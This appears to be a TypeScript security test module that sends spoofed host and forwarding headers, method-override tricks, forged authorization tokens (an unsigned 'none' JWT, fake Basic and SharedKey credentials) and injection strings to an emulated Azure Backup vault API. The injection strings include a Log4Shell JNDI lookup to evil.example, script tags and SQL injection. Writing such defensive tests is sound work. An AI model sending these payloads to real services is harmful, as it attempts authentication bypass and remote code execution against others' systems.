import { type Hostile, json } from './hostile.ts';
import type { HostileServer } from './hostileServer.ts';
import { EVIL } from './judge.ts';

/** Headers that would have the server believe in another host, method, caller or state. */
export function headerTricks(server: HostileServer): readonly Hostile[] {
  const { vault, group } = server;
  const version = 'api-version=2024-04-01';
  const list = `${vault}/backupJobs?api-version=2025-02-01&$top=1`;
  const elsewhere: readonly Readonly<Record<string, string>>[] = [
    { host: EVIL },
    { host: `${EVIL}:443` },
    { host: `localhost.${EVIL}` },
    { 'x-forwarded-host': EVIL },
    { 'x-forwarded-proto': 'http', 'x-forwarded-host': EVIL },
    { forwarded: `host=${EVIL};proto=http` },
    { 'x-original-host': EVIL },
    { 'x-host': EVIL },
    { 'x-forwarded-server': EVIL },
    { 'x-http-host-override': EVIL },
    { origin: `https://${EVIL}` },
    { referer: `https://${EVIL}/?${version}` },
    { 'x-original-url': '/healthz' },
    { 'x-rewrite-url': '/healthz' },
    { 'x-ms-arm-resource-system-data': '{"createdBy":"me"}' },
  ];
  const refresh = `${vault}/backupFabrics/Azure/refreshContainers?${version}`;
  return [
    ...elsewhere.flatMap((headers): Hostile[] => [
      {
        what: `a list with ${JSON.stringify(headers)}`,
        ask: { method: 'GET', target: list, headers },
        expect: 'harmless',
      },
      { what: `no token with ${JSON.stringify(headers)}`, ask: { method: 'GET', target: list, headers, as: 'nobody' } },
      {
        what: `discovery with ${JSON.stringify(headers)}`,
        ask: {
          method: 'GET',
          target: `/${server.tenantId}/v2.0/.well-known/openid-configuration`,
          headers,
          as: 'nobody',
        },
        expect: 'harmless',
      },
    ]),
    ...['x-http-method-override', 'x-http-method', 'x-method-override', '_method'].flatMap((name): Hostile[] => [
      {
        what: `a deletion as a reading by ${name}`,
        ask: { method: 'GET', target: `${vault}?${version}`, headers: { [name]: 'DELETE' } },
        expect: 'harmless',
      },
      {
        what: `a deletion as a question by ${name}`,
        ask: { method: 'POST', target: `${vault}?${version}&_method=DELETE`, headers: { [name]: 'DELETE' } },
        codes: ['MethodNotAllowed'],
      },
    ]),
    ...CALLERS.map((headers) => ({
      what: `the caller ${JSON.stringify(headers).slice(0, 80)}`,
      ask: { method: 'DELETE', target: `${vault}?${version}`, headers, as: 'nobody' as const },
      codes: ['AuthenticationFailed', 'InvalidAuthenticationToken', 'BadRequest'],
    })),
    ...['"junk"', 'W/"junk"', '""', 'x'.repeat(2000), '"a", "b"', '\u00ff', '"\\"'].flatMap((match) =>
      ['backupconfig/vaultconfig', 'backupResourceGuardProxies/VaultProxy'].map((name) => ({
        what: `If-Match ${match.slice(0, 20)} of ${name}`,
        ask: {
          ...{ method: 'PUT', target: `${vault}/${name}?api-version=2025-02-01` },
          ...json({ properties: { softDeleteFeatureState: 'Nonsense', resourceGuardResourceId: 'nonsense' } }),
          headers: { 'content-type': 'application/json', 'if-match': match },
        },
      })),
    ),
    ...['%s%n', '\u00e9', 'x'.repeat(8000), '<script>', '$' + '{jndi:ldap://evil.example/a}', "' or 1=1"].flatMap(
      (text) =>
        ['x-ms-client-request-id', 'x-ms-correlation-request-id', 'user-agent', 'accept-language', 'cookie'].map(
          (name) => ({
            what: `${name}: ${text.slice(0, 30)}`,
            ask: { method: 'GET', target: `${vault}?${version}`, headers: { [name]: text } },
            expect: 'harmless' as const,
          }),
        ),
    ),
    ...['TRACE', 'OPTIONS', 'PROPFIND', 'LOCK', 'MOVE', 'COPY', 'LINK', 'PURGE', 'SEARCH', 'MKCOL'].map((method) => ({
      what: `the method ${method}`,
      ask: { method, target: `${vault}?${version}` },
    })),
    ...['/../../x', 'a,b', '*', '"'].map((reference) => ({
      what: `an audience in a header: ${reference}`,
      ask: {
        ...{ method: 'POST', target: refresh, as: 'nobody' as const },
        headers: { 'x-ms-authorization-auxiliary': `Bearer ${reference}` },
      },
    })),
    {
      what: 'a group through a header',
      ask: {
        method: 'DELETE',
        target: `${group}?${version}`,
        headers: { 'x-ms-client-principal': 'b3duZXI=' },
        as: 'nobody',
      },
    },
  ];
}

const CALLERS: readonly Readonly<Record<string, string | readonly string[]>>[] = [
  { authorization: 'Bearer' },
  { authorization: 'Bearer ' },
  { authorization: 'Bearer null' },
  { authorization: 'Bearer undefined' },
  { authorization: 'Bearer a.b.c' },
  { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJvaWQiOiJ4In0.' },
  { authorization: 'Basic b3duZXI6b3duZXI=' },
  { authorization: 'SharedKey staging1:AAAA' },
  { authorization: 'Negotiate x' },
  { authorization: `Bearer ${'x'.repeat(10_000)}` },
  { authorization: 'bearer\ta.b.c' },
  { 'x-ms-client-principal-id': 'owner' },
  { 'x-forwarded-user': 'owner' },
  { 'x-remote-user': 'owner' },
  { cookie: 'access_token=owner' },
  { 'x-ms-token-aad-access-token': 'owner' },
];
